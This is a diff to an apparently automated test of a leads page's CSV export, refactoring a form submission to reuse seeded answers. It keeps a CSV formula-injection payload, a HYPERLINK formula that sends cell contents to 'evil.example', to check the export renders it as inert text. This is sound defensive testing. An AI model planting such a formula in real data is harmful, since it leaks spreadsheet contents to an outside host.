@@ -2,6 +2,7 @@
 // public submissions API; the leads page's button downloads the table as CSV with the expected
 // header, and the hostile answer arrives as inert text (a leading apostrophe), never a formula.
 import fs from "node:fs";
+import { BANK_VP } from "../prisma/seed/demo-answers";
 import { expect, signInAs, test } from "./fixtures";
 
 const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
@@ -23,21 +24,7 @@ test("the leads page's Export CSV downloads the table with its header; a hostile
   const email = `csv-${Date.now()}@hostile-bank.com`;
   const submitted = await page.request.post("/api/v1/forms/demo/submissions", {
     data: {
-      answers: {
-        email,
-        full_name: "Hostile Tester",
-        role: "vp",
-        authority: "decision_maker",
-        company: "Hostile Bank",
-        company_size: "200-999",
-        industry: "financial_services",
-        region: "north_america",
-        budget: "50k_150k",
-        timeline: "this_quarter",
-        use_case: ["lead_routing"],
-        details: HOSTILE,
-        consent: true,
-      },
+      answers: { ...BANK_VP, email, full_name: "Hostile Tester", company: "Hostile Bank", details: HOSTILE },
       context: { fillTimeMs: 20_000, source: "api" },
     },
   });
